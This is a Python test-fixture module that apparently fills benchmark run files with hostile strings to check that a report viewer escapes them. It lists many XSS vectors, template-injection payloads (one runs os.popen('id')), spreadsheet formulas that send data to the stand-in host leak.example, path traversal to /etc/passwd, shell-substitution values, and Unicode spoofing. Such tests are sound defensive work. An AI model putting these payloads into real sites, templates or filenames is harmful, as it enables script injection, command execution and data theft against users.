"""Text that tries to get out of its box, and run files that are full of it.

`PAYLOADS` are texts a customer, an agent, a tool or a judge may say; `NAMES` are names a model or a case may have. What
runs would set ``window.__in``; what gets out would ask `LEAK`. `write_hostile_runs` puts all of them everywhere in a
record.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from made_runs import made_run
from made_runs import talk as made_talk

from benchmark_lib.records import Act, Conversation, Fault, Message, Reasoning, ToolCall, Usage

LEAK = "https://leak.example/"
FLAG = "__in"
_RUN = "window.__in=1"

PAYLOADS = {
    # script
    "script": f"<script>{_RUN}</script>",
    "script_upper": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script_src": f"<script src={LEAK}a.js></script>",
    "script_module": f'<script type="module">{_RUN}</script>',
    "script_slash": f"<script/x>{_RUN}</script>",
    "script_nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script_open": f"<script>{_RUN}",
    "close_script": f"</script><script>{_RUN}</script>",
    "close_json": f'"}}]</script><img src=x onerror={_RUN}>',
    "close_title": f"</title><script>{_RUN}</script>",
    "close_style": f"</style><script>{_RUN}</script>",
    "close_textarea": f"</textarea><script>{_RUN}</script>",
    "close_pre": f"</pre></details></div><script>{_RUN}</script>",
    "comment": f"--><script>{_RUN}</script><!--",
    "cdata": f"]]><script>{_RUN}</script>",
    "importmap": '<script type="importmap">{"imports":{"x":"https://leak.example/x.js"}}</script>',
    "eval_words": "eval(atob('d2luZG93Ll9faW49MQ=='))",
    # event handlers
    "img_onerror": f"<img src=x onerror={_RUN}>",
    "img_quotes": f"\"><img src=x onerror='{_RUN}'>",
    "img_single": f'\'><img src=x onerror="{_RUN}">',
    "attribute": f'" onmouseover="{_RUN}" x="',
    "attribute_single": f"' onfocus='{_RUN}' autofocus='",
    "attribute_backtick": f"` onclick={_RUN} `",
    "body_onload": f"<body onload={_RUN}>",
    "input_autofocus": f"<input autofocus onfocus={_RUN}>",
    "details_toggle": f"<details open ontoggle={_RUN}>x</details>",
    "video": f"<video><source onerror={_RUN}></video>",
    "audio": f"<audio src=x onerror={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "animation": f"<p style='animation:x 1s' onanimationstart={_RUN}>x</p>",
    "select": f"<select autofocus onfocus={_RUN}></select>",
    "no_spaces": f"<img/src=x/onerror={_RUN}>",
    "entities": "&lt;script&gt;window.__in=1&lt;/script&gt;",
    "entities_numbers": "&#60;img src=x onerror=window.__in=1&#62;",
    # links
    "javascript_link": f"<a href='javascript:{_RUN}'>click</a>",
    "javascript_tab": f"<a href='java\tscript:{_RUN}'>click</a>",
    "javascript_bare": f"javascript:{_RUN}",
    "data_link": "<a href='data:text/html,<script>window.__in=1</script>'>click</a>",
    "vbscript": "vbscript:msgbox(1)",
    "markdown_link": f"[click](javascript:{_RUN})",
    "markdown_image": f"![x]({LEAK}p.png)",
    "meta_refresh": f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    "base": f"<base href='{LEAK}'>",
    "form": f"<form action='{LEAK}'><button autofocus>send</button></form>",
    "link_style": f"<link rel=stylesheet href='{LEAK}a.css'>",
    "prefetch": f"<link rel=prefetch href='{LEAK}a'>",
    "tracking_pixel": f"<img src='{LEAK}pixel.gif'>",
    "image_set": f"<img srcset='{LEAK}2x.png 2x'>",
    # frames and embedded things
    "iframe": f"<iframe src='{LEAK}'></iframe>",
    "iframe_srcdoc": f"<iframe srcdoc='<script>parent.{FLAG}=1</script>'></iframe>",
    "object": f"<object data='{LEAK}'></object>",
    "embed": f"<embed src='{LEAK}'>",
    "template": f"<template><script>{_RUN}</script></template>",
    "portal": f"<fencedframe src='{LEAK}'></fencedframe>",
    # SVG and MathML
    "svg_onload": f"<svg onload={_RUN}>",
    "svg_script": f"<svg><script>{_RUN}</script></svg>",
    "svg_animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg_use": f"<svg><use href='{LEAK}a.svg#x'/></svg>",
    "svg_foreign": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    # CSS
    "style": f"<style>body{{display:none;background:url({LEAK}b)}}</style>",
    "style_import": f"<style>@import '{LEAK}a.css';</style>",
    "style_attribute": f"<p style=\"position:fixed;inset:0;background:url('{LEAK}c')\">x</p>",
    "css_expression": "width:expression(window.__in=1)",
    # templates
    "jinja": "{{ 7*191 }}{% for x in range(9) %}x{% endfor %}",
    "jinja_globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "jinja_comment": "{# gone #}{{ self }}",
    "js_template": f"${{{_RUN}}} `${{{_RUN}}}`",
    "angular": "{{constructor.constructor('window.__in=1')()}}",
    "mustache": "{{{x}}} <%= 7*191 %> #{7*191}",
    "mathjax": "$$\\href{javascript:window.__in=1}{x}$$ \\(\\unicode{x}\\)",
    # characters
    "bidi_override": "refund \u202egnihton\u202c of 10",
    "bidi_isolate": "\u2067abc\u2069 \u2066def",
    "bidi_mark": "\u061c\u200f\u200e100",
    "zero_width": "can\u200bcel\u2060_or\ufeffder",
    "tags": "hello\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "null": "before\x00after",
    "control": "\x1b[31mred\x1b[0m \x07 \x08\x7f \x85",
    "separators": "line\u2028line\u2029line",
    "zalgo": "h" + "\u0301\u0316\u0327\u0338" * 40 + "i",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 <b>\u0623\u0628</b>",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4",
    "fullwidth": "\uff1cscript\uff1ewindow.__in=1\uff1c/script\uff1e",
    "line_of_a_megabyte": "<b>" + "a" * 1_000_000,
    "brackets_of_a_megabyte": "<" * 1_000_000,
    "formula": f'=HYPERLINK("{LEAK}?"&A1,"click")',
    "newlines": "\r\n" * 200 + "end",
    # paths and shells
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/broken_into); `touch /tmp/broken_into`",
    "null_path": "../x\x00.html",
    "file_link": "<a href='file:///etc/passwd'>file</a>",
}
"""Texts by name."""

NAMES = (
    "../../escaped",
    "..\\..\\escaped",
    "/tmp/escaped",
    "C:\\escaped",
    "..",
    ".",
    "",
    "CON",
    "nul.html",
    "a/b/c",
    "%2e%2e%2fescaped",
    "file:///tmp/escaped",
    "index",
    "index.html",
    "~root",
    "-rf",
    "name\nwith a line",
    "nul\x00l",
    "\u202egpj.exe",
    "x" * 3000,
    "caf\u00e9/\u043c\u043e\u0434\u0435\u043b\u044c",
    "q?a=b#c",
    "<b>bold</b>",
    f"<img src=x onerror={_RUN}>",
    "\"'><svg onload=window.__in=1>",
    "{{ 7*191 }}",
    "javascript:window.__in=1",
    f"</script><script>{_RUN}</script>",
    "=cmd|' /C calc'!A0",
    "$(touch escaped)",
    "vendor/model:70b-instruct@2026",
)
"""Names by which a model or a case may be called."""

BUCKETS = ("resolvable", "must_escalate", "adversarial")


def write_hostile_runs(folder: Path) -> list[Path]:
    """Run files in which every text is hostile: one run a name of `MODELS`, the first with every payload and every case name.

    Parameters
    ----------
    folder : Path
        Where to; the files themselves have plain names.
    """
    folder.mkdir(parents=True, exist_ok=True)
    texts = list(PAYLOADS.values())
    paths = []
    for number, model in enumerate(MODELS):
        path = folder / f"hostile-{number}.deskbench"
        records = [talk(f"case {i}", texts[i : i + 6], model) for i in range(0, len(texts), 6)] if number == 0 else []
        names = NAMES if number == 0 else NAMES[number : number + 2]
        records += [talk(name, texts[(7 * i) % len(texts) :][:1], model) for i, name in enumerate(names)]
        _write(path, model, records)
        paths.append(path)
    return paths


MODELS = (
    f"<script>{_RUN}</script>",
    "../../escaped",
    "\"'><img src=x onerror=window.__in=1>",
    "{{ 7*191 }}\u202e\x00",
    "=cmd|' /C calc'!A0" + "x" * 3000,
)
"""Names of models, a run each."""


def talk(case_id: str, texts: list[str], model: str, ended_by: str = "customer_gave_up") -> Conversation:
    """A conversation that says `texts` wherever a conversation can say something."""
    c = Conversation(case_id=case_id, trial=1, model=model, source="model", customer=texts[0][:500], ended_by=ended_by)
    for turn, text in enumerate(texts, 1):
        acts = [Act("pushed", str(turn)), Act("gave", text[:500], text[:500])]
        c.messages += [
            Message(turn, "customer", text, acts, [text[:200]], {text[:200]: text}),
            Message(turn, "agent", text),
        ]
        c.tool_calls.append(
            ToolCall(
                turn,
                len(c.tool_calls),
                text[:200],
                {text[:200]: text, "list": [text[:200]]},
                {"result": text},
                None,
                True,
            )
        )
        c.tool_calls.append(
            ToolCall(turn, len(c.tool_calls), "get_order", text, {"error": text[:500]}, text[:200], False)
        )
        c.reasoning.append(Reasoning(turn, len(c.tool_calls) - 1 + turn % 2, text))
        c.changes.append(
            {
                "table": text[:200],
                "id": text[:200],
                "field": text[:200],
                "old": text[:500],
                "new": {text[:100]: text[:500]},
            }
        )
        c.faults.append(Fault(text[:100], text[:200], text[:500]))
    c.usage = {"agent": Usage(10, 5), texts[0][:100]: Usage(1, 1)}
    return c


def _score(text: str, number: int) -> dict[str, Any]:
    short, bucket = text[:200], BUCKETS[number % 3]
    numbers = dict.fromkeys(
        (
            "facts_told",
            "forbidden_calls",
            "forbidden_malformed",
            "pushes",
            "turns",
            "agent_messages",
            "agent_words",
            "empty_replies",
            "tool_calls",
            "write_calls",
            "failed_calls",
            "order_lookups",
            "knowledge_base_searches",
            "customer_faults",
        ),
        1,
    )
    return {
        **numbers,
        "facts_required": 2,
        "bucket": bucket,
        "intent": short or "none",
        "kind": short,
        "claim": short,
        "tone": short,
        "language": short,
        "hardness": short,
        "twin_of": short,
        "scored": True,
        "handed_over": False,
        "queue": short,
        "queue_accepted": False,
        "unsafe": bucket == "adversarial" or None,
        "state_matches": False,
        "resolved": False if bucket == "resolvable" else None,
        "corrupt_success": False if bucket == "resolvable" else None,
        "success": False,
        "right_end": False,
        "facts": {short: True, "other": False},
        "reasons_told": [short],
        "rule_identity": "broken",
        "rule_" + short: "kept",
        "rules_broken_by": {short: [0], "identity": [1]},
        "findings": [{"detector": short, "state": short, "turn": 1, "sentence": text[:80], "detail": short}],
        "customer_evidence": [{"name": short, "quote": text[:40]}],
        "pressure_reached": "unsafe" if bucket == "adversarial" else None,
        "pressure_push": 1 if bucket == "adversarial" else None,
    }


def _write(path: Path, model: str, records: list[Conversation]) -> None:
    part = {"value": PAYLOADS["img_quotes"], "hash": PAYLOADS["script"]}
    inputs = {name: part for name in ("model", "agent", "customer", "prompt", "settings", PAYLOADS["attribute"])} | {
        "store": {"value": "../../escaped 1.0", "hash": "x"}
    }
    manifest = {
        "run_id": f"{model[:60]}-run",
        "model": model,
        "source": "model",
        "created": PAYLOADS["script"],
        "inputs": inputs,
        "cases": {},
        "trials": 1,
        "planned": {c.case_id: 1 for c in records},
        "sessions": [{"code": part}],
    }
    rows = []
    for number, record in enumerate(records):
        text = record.messages[0].text
        unscored = {"score": None, "reason": text[:200], "quote": text[:200]}
        verdict = {text[:100]: {"score": 50, "reason": text[:2000], "quote": text[:500]}, "tone": unscored}
        rows.append((record, _score(text, number), [(text[:100], verdict)]))
    made_run(path, rows, manifest=manifest, versions=lambda record: record.messages[0].text[:100])


def hostile_rows(longest=10_000):
    """Conversations in which a payload stands everywhere a record, a score or a verdict can hold a text."""
    for n, x in enumerate(text for text in [*PAYLOADS.values(), *NAMES] if len(text) <= longest):
        call = ToolCall(1, 0, x, {x: x}, {x: [x]}, x, True, x)
        said = [Message(1, "customer", x, [Act(x, x, x)], [x], {x: x}), Message(1, "agent", f"before {x} after")]
        c = made_talk(
            *said,
            case_id=x,
            trial=n,
            model=x,
            calls=[call],
            changes=[{"table": x, "id": x, "field": x, "old": x, "new": x}],
            ended_by=x,
        )
        finding = {"detector": x, "state": x, "turn": 1, "sentence": x, "detail": x}
        score = {
            "bucket": x,
            "intent": x,
            "kind": x,
            "tone": x,
            "language": x,
            "success": False,
            "findings": [finding],
            "rule_identity": x,
            "rules_broken_by": {x: [0]},
            "facts": {x: False},
            "reasons_told": [x],
            "pressure_reached": x,
            "facts_required": 1,
            "facts_told": 0,
            "customer_evidence": [finding],
            "customer_finding_names": x,
        }
        yield c, score, [(x, {x: {"score": 1.0, "reason": x, "quote": x}})]
